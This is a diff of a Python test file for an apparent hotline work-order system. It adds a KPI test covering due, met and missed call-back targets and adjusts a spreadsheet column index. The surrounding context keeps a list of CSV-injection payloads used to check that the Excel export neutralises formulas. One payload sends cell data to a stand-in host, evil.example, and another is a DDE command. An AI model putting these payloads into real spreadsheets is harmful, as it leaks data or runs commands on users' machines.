@@ -76,6 +76,61 @@ def test_the_monthly_report_is_an_excel_workbook_with_definitions(
     assert b.get("/console/kpis/report.xlsx?month=2026-13").status_code == 422
 
 
+def kpi_row(page: str, name: str) -> tuple[str, str]:
+    """(the row's class, its cells) of one KPI on the page."""
+    row = re.search(rf'<tr class="([a-z]*)" data-kpi="{name}">(.*?)</tr>', page, re.S)
+    assert row, page
+    return row[1], row[2]
+
+
+def test_a_kpi_with_nothing_due_yet_is_not_yet_due_and_only_what_is_due_counts_as_missed(
+    browser: Callable[[str], Browser],
+    client: TestClient,
+    auth: dict,
+    agent: dict,
+    staff: Callable[[str], dict],
+    clock: FixedClock,
+) -> None:
+    """14.4.4/14.4.5: complaints just finished, whose call-backs (10.1.6: three days) are not due, are
+    neither met nor missed; so are repairs still inside their response window (14.4.2)."""
+    complaint = {"kind": "complaint", "category": "service", "source": "wechat", "description": "态度不好"}
+    done = [client.post("/api/v1/work-orders", json=complaint, headers=auth).json() for _ in range(3)]
+    for order in done:
+        act_ok(client, agent, order["id"], "respond", "complete")
+    waiting_repair = client.post("/api/v1/work-orders", json=REPAIR, headers=auth).json()
+    assert waiting_repair["status"] == "accepted"
+    b = browser("agent")
+    page = b.get("/console/kpis?start=2026-12-01&end=2026-12-31").text
+    for name in ("complaint_process_satisfaction", "complaint_result_satisfaction", "repair_response_rate"):
+        css, cells = kpi_row(page, name)
+        assert css == "" and "未到期" in cells and "未达标" not in cells, cells
+    css, cells = kpi_row(page, "complaint_process_satisfaction")
+    assert "0 / 0" in cells and "另有 3 个未到期" in cells and "—" in cells
+    css, cells = kpi_row(page, "complaint_on_time_rate")
+    assert "3 / 3" in cells and "无目标" in cells  # 14.4.6 publishes it without a target in Table 1
+
+    # One is called back satisfied; the call-back window of the other two passes unanswered.
+    tasks = client.get("/api/v1/callbacks", params={"status": "open"}, headers=agent).json()["items"]
+    first = next(t for t in tasks if t["order_id"] == done[0]["id"])
+    answer = {"method": "phone", "process_satisfied": True, "result_satisfied": True}
+    called = client.post(f"/api/v1/work-orders/{first['order_id']}/actions/callback", json=answer, headers=agent)
+    assert called.status_code == 200, called.text
+    page = b.get("/console/kpis?start=2026-12-01&end=2026-12-31").text
+    css, cells = kpi_row(page, "complaint_process_satisfaction")
+    assert css == "" and "1 / 1" in cells and "另有 2 个未到期" in cells and "达标" in cells
+    clock.advance(days=4)
+    b = browser("agent")  # the morning's session has expired
+    page = b.get("/console/kpis?start=2026-12-01&end=2026-12-31").text
+    css, cells = kpi_row(page, "complaint_process_satisfaction")
+    assert css == "bad" and "1 / 3" in cells and "未到期" not in cells and "未达标" in cells
+    css, cells = kpi_row(page, "repair_response_rate")
+    assert css == "bad" and "0 / 1" in cells  # its 30 minutes are long over
+    period = {"start": "2026-12-01T00:00:00+08:00", "end": "2027-01-01T00:00:00+08:00"}
+    api = client.get("/api/v1/kpis", params=period, headers=staff("agent")).json()
+    coverage = api["callback_coverage"]
+    assert (coverage["numerator"], coverage["denominator"], coverage["pending"]) == (1, 3, 0)
+
+
 # What a spreadsheet would run (OWASP's CSV injection); the first two are the review's (N4).
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"详情")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)"]
 
@@ -115,7 +170,7 @@ def test_no_text_in_the_monthly_report_is_a_formula_or_breaks_it(
     numbers = {cell.value: cell for cell in book["热线工单明细"]["B"][1:]}
     assert set(numbers) == {*FORMULAS, "RT\ufffdCTRL\ufffd", "\t=1+1"}
     assert all(numbers[text].quotePrefix for text in [*FORMULAS, "\t=1+1"])  # Excel keeps them text when edited
-    targets = [row[5] for row in book["服务指标"].iter_rows(min_row=5, values_only=True) if row[5] == "= 100%"]
+    targets = [row[6] for row in book["服务指标"].iter_rows(min_row=5, values_only=True) if row[6] == "= 100%"]
     assert len(targets) == 3  # Q, P and the call-back coverage: the target as written (N12)
 
 
